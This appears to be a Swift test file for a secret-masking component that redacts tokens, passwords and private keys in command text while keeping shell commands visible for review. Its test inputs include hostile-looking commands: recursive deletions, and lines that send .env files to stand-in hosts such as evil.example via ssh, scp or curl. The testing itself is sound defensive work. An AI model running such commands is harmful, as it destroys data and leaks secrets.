import BellhopTesting
import Testing

@testable import BellhopModel

@Suite("Masking secrets")
struct SecretMaskTests {
    /// Made up here, and put together from parts so that no scanner of this repository mistakes one for real.
    static let body = "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2"
    static let jwt = ["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiIxMjM0NTY3ODkwIn0", "dozjgNryP4J3jVmNHl0w5N"].joined(
        separator: ".")

    static let shapes: [(String, String)] = [
        ("AKIA" + "IOSFODNN7EXAMPLE", "AKIA‹masked›"), ("ASIA" + "IOSFODNN7EXAMPLE", "ASIA‹masked›"),
        ("ghp_" + body, "ghp_‹masked›"), ("gho_" + body, "gho_‹masked›"), ("ghs_" + body, "ghs_‹masked›"),
        ("github_pat_" + body + "_" + body, "github_pat_‹masked›"), ("glpat-" + body, "glpat-‹masked›"),
        ("xoxb-" + "1234567890-" + body, "xoxb-‹masked›"), ("xoxp-" + "12-34-" + body, "xoxp-‹masked›"),
        ("sk_live_" + body, "sk_live_‹masked›"), ("rk_test_" + body, "rk_test_‹masked›"),
        ("sk-" + body, "sk-‹masked›"), ("sk-proj-" + body, "sk-proj-‹masked›"),
        ("sk-ant-" + "api03-" + body, "sk-ant-‹masked›"), ("AIza" + body, "AIza‹masked›"),
        ("npm_" + body, "npm_‹masked›"), ("hf_" + body, "hf_‹masked›"), ("ya29." + body, "ya29.‹masked›"),
        ("glrt-" + body, "glrt-‹masked›"), ("dckr_pat_" + body, "dckr_pat_‹masked›"),
        ("bh_agent_" + body, "bh_agent_‹masked›"), ("bh_admin_" + "-_" + body, "bh_admin_‹masked›"),
        ("hooks.slack.com/services/T0AB/B0CD/" + body, "hooks.slack.com/services/‹masked›"),
        (jwt, "eyJ‹masked›"), ("Bearer " + body, "Bearer ‹masked›"),
    ]

    @Test("A token of known shape is masked wherever it stands", arguments: shapes)
    func shape(_ secret: String, _ masked: String) {
        for (before, after) in [
            ("", ""), ("echo ", " | sh"), ("\"", "\";"), ("x=(", ")"), ("é", "\n"), ("https://h/", "?a=b"),
        ] {
            #expect(SecretMask.mask(before + secret + after) == before + masked + after)
        }
        #expect(SecretMask.mask("\(secret) \(secret)") == "\(masked) \(masked)")
    }

    @Test(
        "A value is masked by its name, however it is written",
        arguments: [
            ("password=hunter2", "password=‹masked›"), ("PASSWORD='hunter2'", "PASSWORD='‹masked›'"),
            ("token=\"abc\" x", "token=\"‹masked›\" x"), ("--password hunter2 -v", "--password ‹masked› -v"),
            ("--password=hunter2", "--password=‹masked›"), ("--api-key\tabc", "--api-key\t‹masked›"),
            ("export API_KEY=abc123; env", "export API_KEY=‹masked›; env"),
            ("OPENAI_API_KEY=abc npm start", "OPENAI_API_KEY=‹masked› npm start"),
            ("AWS_SECRET_ACCESS_KEY=wJalr/K7+x=", "AWS_SECRET_ACCESS_KEY=‹masked›"),
            ("MYSQL_PWD=x mysql", "MYSQL_PWD=‹masked› mysql"), ("DB_PASS=x", "DB_PASS=‹masked›"),
            ("{\"password\": \"x\", \"user\": \"y\"}", "{\"password\": \"‹masked›\", \"user\": \"y\"}"),
            ("{\\\"apiKey\\\":\\\"x1\\\"}", "{\\\"apiKey\\\":\\\"‹masked›\\\"}"),
            ("password: hunter2", "password: ‹masked›"), ("client_secret = a1b2", "client_secret = ‹masked›"),
            ("https://api/x?token=abc&y=1", "https://api/x?token=‹masked›&y=1"),
            ("Authorization: Bearer abc", "Authorization: Bearer ‹masked›"),
            ("-H 'Authorization: Basic dXNlcjpwYXNz'", "-H 'Authorization: Basic ‹masked›'"),
            ("authorization: abc", "authorization: ‹masked›"), ("X-Api-Key: abc123def", "X-Api-Key: ‹masked›"),
            ("https://ann:s3cret@host/x", "https://ann:‹masked›@host/x"),
            ("postgres://u:p@ss@db:5432/x", "postgres://u:‹masked›@db:5432/x"),
            ("https://Ab1Cd2Ef3Gh4Ij5Kl6Mn7@host/x", "https://‹masked›@host/x"),
            ("export KEY=\(body)", "export KEY=‹masked›"), ("STRIPE_KEY: \(body)", "STRIPE_KEY: ‹masked›"),
            ("-H 'Cookie: sid=\(body)'", "-H 'Cookie: sid=‹masked›'"),
            ("?X-Amz-Signature=\(body)&y=1", "?X-Amz-Signature=‹masked›&y=1"),
            ("curl -u ann:hunter2 https://h/x", "curl -u ann:‹masked› https://h/x"),
            ("curl --user 'ann:hunter2'", "curl --user 'ann:‹masked›'"),
            ("curl --proxy-user=ann:hunter2", "curl --proxy-user=ann:‹masked›"),
            ("password=p\u{E4}ss w\u{F6}rt", "password=‹masked› w\u{F6}rt"),
        ])
    func named(_ text: String, _ masked: String) {
        #expect(SecretMask.mask(text) == masked)
        #expect(SecretMask.mask(masked) == masked)
    }

    @Test("A field of a form is a secret by its name")
    func names() {
        for name in ["password", "apiKey", "Access Token", "client_secret"] { #expect(SecretMask.isSecretName(name)) }
        for name in ["name", "e-mail", "secret_name", "max_tokens", ""] { #expect(!SecretMask.isSecretName(name)) }
    }

    @Test("The base64 of a PEM private key is masked, line by line", arguments: ["\n", "\\n"])
    func pem(_ lineBreak: String) {
        let line = String(repeating: "Ab1+", count: 16)
        let text = [
            "x -----BEGIN RSA PRIVATE KEY-----", "MIIE" + line, line, "/b2C" + line, "Ab1=",
            "-----END RSA PRIVATE KEY----- | y",
        ]
        let masked = [
            "x -----BEGIN RSA PRIVATE KEY-----", "MIIE‹masked›", "‹masked›", "/‹masked›", "‹masked›",
            "-----END RSA PRIVATE KEY----- | y",
        ]
        #expect(SecretMask.mask(text.joined(separator: lineBreak)) == masked.joined(separator: lineBreak))
        #expect(SecretMask.mask("-----BEGIN CERTIFICATE-----\n\(line)\n") == "-----BEGIN CERTIFICATE-----\n\(line)\n")
    }

    @Test("A private key is masked as one, whatever it is called", arguments: ["\n", "\\n"])
    func namedPEM(_ lineBreak: String) {
        let line = String(repeating: "Ab1+", count: 16)
        let key = ["-----BEGIN PRIVATE KEY-----", "MIIE" + line, line, "-----END PRIVATE KEY-----"]
        let masked = [key[0], "MIIE‹masked›", "‹masked›", key[3]].joined(separator: lineBreak)
        for before in ["{\"private_key\": \"", "SIGNING_KEY='", "TOKEN="] {
            #expect(SecretMask.mask(before + key.joined(separator: lineBreak) + "\"}") == before + masked + "\"}")
        }
    }

    @Test("An encrypted PEM key keeps its headers, and a cut one is masked to where it is cut")
    func pemHeaders() {
        let line = String(repeating: "Ab1+", count: 16)
        let text =
            "-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES\n\n\(line)\n\(line.prefix(30))"
        #expect(
            SecretMask.mask(text)
                == "-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES\n\nAb1+‹masked›\n‹masked›")
    }

    @Test(
        "Ordinary text and code stay as they are",
        arguments: [
            "npm test", "git push --force origin main", "max_tokens=100 tokenizer=bpe", "let token: String",
            "password: String?",
            "if token == other {", "token = makeToken(x)", "token = environ[\"X\"]", "PWD=/srv/shop", "compass=north",
            "cd $HOME && echo $TOKEN", "Authorization: Bearer $TOKEN", "--password-file secret.txt", "--token -v",
            "password=$(pass show x)",
            "password=`cat x`", "API_KEY=${API_KEY}", "token=null", "sk-fading-circle-of-many-dots-and-lines",
            "AKIA is a prefix",
            "https://github.com/a/b", "git@github.com:a/b.git", "ssh://git@host:22/x", "eyJ",
            "eyJhbGciOiJIUzI1NiJ9 alone",
            "the token: see below", "case token: run(sha256(x))", "key=value", "task-1234567890",
            "-----BEGIN PRIVATE KEY-----; rm -rf /",
            "docker run -u 1000:1000 x", "git push -u origin HEAD:main", "git push -u host:a/b main",
            "--user ann", "-u git@host:a/b.git", "KEY=abc", "--key backups/prod-2024-11-01-full.tar",
            "cache-key: linux-node-modules-20241101", "openssl rsa -key private20241101.pem", "key=lambda x: x[1]",
        ])
    func ordinary(_ text: String) { #expect(SecretMask.mask(text) == text) }

    @Test(
        "A mask never covers a command",
        arguments: [
            ("password=x; rm -rf /", "password=‹masked›; rm -rf /"),
            ("token=\"; rm -rf ~; \"", "token=\"; rm -rf ~; \""),
            ("echo \"password=\" rm -rf ~", "echo \"password=\" rm -rf ~"),
            ("f --token rm -rf ~", "f --token rm -rf ~"), ("A_TOKEN=/bin/sh; $A_TOKEN", "A_TOKEN=/bin/sh; $A_TOKEN"),
            ("-u ann:x;reboot", "-u ann:‹masked›;reboot"), ("-u ann:$(reboot)", "-u ann:$(reboot)"),
            ("KEY=\(body);reboot", "KEY=‹masked›;reboot"), ("KEY='\(body)';reboot", "KEY='‹masked›';reboot"),
            ("password=a|sh", "password=‹masked›|sh"), ("password=a>file", "password=‹masked›>file"),
            ("password=a\\\nreboot", "password=‹masked›\\\nreboot"),
            ("password=a\nreboot", "password=‹masked›\nreboot"),
            ("--password\nreboot", "--password\nreboot"), ("token=a$(reboot)b", "token=‹masked›$(reboot)b"),
            ("token=a`reboot`", "token=‹masked›`reboot`"), ("https://u:p$(reboot)@h", "https://u:p$(reboot)@h"),
            (
                "-----BEGIN PRIVATE KEY-----\nsudo reboot\n-----END PRIVATE KEY-----",
                "-----BEGIN PRIVATE KEY-----\nsudo reboot\n-----END PRIVATE KEY-----"
            ),
        ])
    func commands(_ text: String, _ shown: String) { #expect(SecretMask.mask(text) == shown) }

    /// Programs, files and hosts that hide behind the name of a secret: the command, and what must not be hidden in it.
    static let disguises: [(String, String)] = [
        ("A_TOKEN=/tmp/x1.sh; $A_TOKEN", "/tmp/x1.sh"),
        ("SECRET=evil.example; ssh $SECRET < .env", "evil.example"),
        ("npm test --auth-token=../../evil/preload.js", "../../evil/preload.js"),
        ("API_KEY=halt; sudo ${API_KEY}", "halt"),
        ("API_KEY='halt'; sudo \"${API_KEY:-ls}\"", "halt"),
        ("PASSWORD=root@203.0.113.9 && scp .env $PASSWORD:", "root@203.0.113.9"),
        ("curl --token evil.example/x1 -d @.env", "evil.example/x1"),
        ("f() { $2; }; f --token halt1", "halt1"),
        ("f() { \"$@\"; }; Bearer() { \"$@\"; }; f Bearer /tmp/aaaaaaaaaaaaaaaa.sh", "/tmp/aaaaaaaaaaaaaaaa.sh"),
        ("X='Authorization: /tmp/x1.sh'; ${X#*: }", "/tmp/x1.sh"),
        ("echo token=halt1 | cut -d= -f2 | sh", "halt1"),
        ("printf 'password: x1y2z3' | xargs -n1 sh -c", "x1y2z3"),
        ("python3 -c 'import os; password = \"halt1\"; os.system(password)'", "halt1"),
        ("node -e 'const token = `x`; run({token: \"evil.example\"})'", "evil.example"),
        ("KEY=evilprogram1name2of3mine4 && ./$KEY", "evilprogram1name2of3mine4"),
        ("ssh ghp_abcdefghijklmnopqrstuvwxyz", "ghp_abcdefghijklmnopqrstuvwxyz"),
        ("sh sk_live_abcdefghijklm", "sk_live_abcdefghijklm"),
        (": -----BEGIN PRIVATE KEY-----\nabcdEFGH1234abcdEFGH1234", "abcdEFGH1234abcdEFGH1234"),
        ("curl http://good.example:x@evil.example@good.example/", "x@evil.example"),
        ("A_TOKEN=Ab1Cd2Ef3Gh4Ij5Kl6Mn7; ./$A_TOKEN", "Ab1Cd2Ef3Gh4Ij5Kl6Mn7"),
        ("env --secret=Ab1Cd2/Ef3Gh4.Ij5Kl6Mn7 make", "Ab1Cd2/Ef3Gh4.Ij5Kl6Mn7"),
        ("eval \"$(echo --token halt1)\"", "halt1"),
        ("$A_TOKEN = halt1; & $A_TOKEN", "halt1"),
    ]

    @Test("What a command runs, opens or contacts is shown, or counted as hidden", arguments: disguises)
    func disguise(_ command: String, _ hidden: String) {
        let masked = SecretMask.masked(command)
        #expect(masked.text.contains(hidden) || masked.used > 0, "\(masked.text)")
        let evidence = ReviewText(command)
        #expect(evidence.isWhole == (masked.used == 0))
        #expect(evidence.lines.contains("a masked value is used here") == (masked.used > 0))
    }

    @Test(
        "A masked value that is only handed over hides nothing that is decided on",
        arguments: [
            "curl -H 'Authorization: Bearer \(jwt)' https://api.example/x", "gh auth login --token \(body)",
            "OPENAI_API_KEY=abc npm start", "curl -u ann:hunter2 https://h.example/x", "mysql --password=hunter2 shop",
            "git clone https://ann:s3cret@host.example/x", "{\"password\": \"x\", \"user\": \"y\"}",
        ])
    func data(_ command: String) {
        let masked = SecretMask.masked(command)
        #expect(masked.count == 1 && masked.used == 0, "\(masked.text)")
        #expect(ReviewText(command).isWhole)
    }

    static let pieces = [
        "password", "=", " ", "--token", " -u ", "KEY", "ann", "hooks.slack.com/services/", ":", "\"", "'", "x1y2z3",
        "; ", "|", "&&", "$(", ")", "`", "\n", "\\", "\\n",
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_", body, "-", "_", "sk-", "eyJ", ".", "://", "@", "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----", "Authorization",
        "Bearer ", "ü", "‹masked›", "MIIE", "/", "{", "}", ",", "a", "<", ">", "(", "[", "]",
    ]

    @Test("Every byte that means something to a shell survives, in order; a second pass changes nothing")
    func fuzz() {
        var generator = SeededGenerator(seed: 3)
        for round in 0..<6000 {
            let text =
                round.isMultiple(of: 3)
                ? String(decoding: generator.bytes(upTo: 120), as: UTF8.self)
                : generator.text(of: Self.pieces, count: generator.below(40))
            let masked = SecretMask.mask(text)
            #expect(Self.syntax(masked) == Self.syntax(text), "\(text.debugDescription)")
            #expect(SecretMask.mask(masked) == masked, "\(text.debugDescription)")
        }
    }

    static func syntax(_ text: String) -> [UInt8] { text.utf8.filter(SecretMask.isSyntax) }

    @Test("A secret right behind a terminal's control sequence is masked")
    func colouredOutput() {
        let token = "ghp_0123456789abcdefghijklmnopqrstuvwxyz"
        #expect(SecretMask.mask("\u{1B}[32m\(token)\u{1B}[0m") == "\u{1B}[32mghp_‹masked›\u{1B}[0m")
        #expect(SecretMask.mask("\u{1B}[2J\(token)").contains("0123456789") == false)
        #expect(SecretMask.mask("\u{1B}[") == "\u{1B}[")
    }
}
